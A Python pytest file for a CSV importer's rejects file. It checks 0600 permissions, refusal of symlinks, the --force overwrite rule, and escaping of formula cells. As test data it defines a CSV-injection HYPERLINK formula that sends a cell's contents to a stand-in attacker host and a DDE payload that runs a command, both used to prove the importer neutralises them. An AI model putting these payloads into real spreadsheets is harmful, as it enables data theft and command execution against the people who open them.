"""The rejects file holds personal data and goes to the office's spreadsheet program: it is
created 0600, never written through a link or over a file without --force, and its cells
cannot run as formulas (OWASP CSV injection) yet import back as the values they were."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa

from bridge.errors import UsageError
from bridge.store.models import Person
from tests.cli import run
from tests.intake.conftest import Importer
from tests.intake.factories import FI_PERSON_HEADERS, person_row, write_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Lisätiedot")'
CALC = "+cmd|' /C calc'!A0"


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The usual umask, under which a plain open() makes files everyone can read."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def sheet(tmp_path: Path) -> Path:
    """One good row and one with a bad e-mail, whose cells are formulas."""
    return write_csv(tmp_path / "asiakkaat.csv", [
        FI_PERSON_HEADERS, person_row(1),
        person_row(2, email="not-an-address", Ammatti=HYPERLINK, Nimike=CALC,
                   Puhelin="+358 40 1234567", Etunimi="@SUM(1+1)", Sukunimi="-2+3")])


def rejected_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_rejects_file_is_0600_whatever_the_umask(
    importer: Importer, sheet: Path, tmp_path: Path, umask_022: None
) -> None:
    rejects = tmp_path / "hylätyt.csv"
    report = importer("persons", sheet, skip_invalid=True, rejects_path=rejects)
    assert report.rejected == 1
    assert mode(rejects) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".hyl")] == []


def test_formula_cells_are_written_as_text(
    importer: Importer, sheet: Path, tmp_path: Path
) -> None:
    rejects = tmp_path / "hylätyt.csv"
    importer("persons", sheet, skip_invalid=True, rejects_path=rejects)
    header, row = rejected_rows(rejects)
    cells = dict(zip(header, row, strict=True))
    assert cells["Ammatti"] == "'" + HYPERLINK
    assert cells["Nimike"] == "'" + CALC
    assert cells["Puhelin"] == "'+358 40 1234567"
    assert (cells["Etunimi"], cells["Sukunimi"]) == ("'@SUM(1+1)", "'-2+3")
    for cell in [*header, *row]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_fixed_rejects_file_imports_the_original_values(
    importer: Importer, sheet: Path, tmp_path: Path, sessions
) -> None:
    rejects = tmp_path / "hylätyt.csv"
    importer("persons", sheet, skip_invalid=True, rejects_path=rejects)
    fixed = rejects.read_text(encoding="utf-8-sig").replace("not-an-address", "p2@example.fi")
    (tmp_path / "korjattu.csv").write_text(fixed, encoding="utf-8-sig")
    report = importer("persons", tmp_path / "korjattu.csv")
    assert (report.status, report.counts.created) == ("ok", 1)
    with sessions() as session:
        person = session.scalars(
            sa.select(Person).where(Person.email_normalised == "p2@example.fi")).one()
    assert person.profession == HYPERLINK and person.first_name == "@SUM(1+1)"
    assert person.phone is not None and not person.phone.startswith("'")


def test_a_link_at_the_rejects_path_is_refused_and_its_target_untouched(
    importer: Importer, sheet: Path, tmp_path: Path
) -> None:
    target = tmp_path / "passwords.txt"
    target.write_text("precious\n", encoding="utf-8")
    link = tmp_path / "hylätyt.csv"
    link.symlink_to(target)
    for force in (False, True):
        with pytest.raises(UsageError, match="symbolic link"):
            importer("persons", sheet, skip_invalid=True, rejects_path=link,
                     replace_rejects=force)
    assert target.read_text(encoding="utf-8") == "precious\n" and link.is_symlink()
    dangling = tmp_path / "nowhere.csv"
    dangling.symlink_to(tmp_path / "not-there.csv")
    with pytest.raises(UsageError, match="symbolic link"):
        importer("persons", sheet, skip_invalid=True, rejects_path=dangling)
    assert not (tmp_path / "not-there.csv").exists()


def test_an_existing_rejects_file_is_kept_without_force_and_replaced_with_it(
    tmp_path: Path, sheet: Path, config: Path
) -> None:
    rejects = tmp_path / "hylätyt.csv"
    rejects.write_text("yesterday's rejects\n", encoding="utf-8")
    rejects.chmod(0o644)
    refused = run("import", "persons", str(sheet), "--skip-invalid", "--rejects", str(rejects),
                  config=config)
    assert refused.exit_code == 2 and "exists already: add --force" in refused.stderr
    assert rejects.read_text(encoding="utf-8") == "yesterday's rejects\n"
    replaced = run("import", "persons", str(sheet), "--skip-invalid", "--rejects", str(rejects),
                   "--force", config=config)
    assert replaced.exit_code == 0, replaced.stderr
    assert "not-an-address" in rejects.read_text(encoding="utf-8-sig")
    assert mode(rejects) == 0o600 and not rejects.is_symlink()
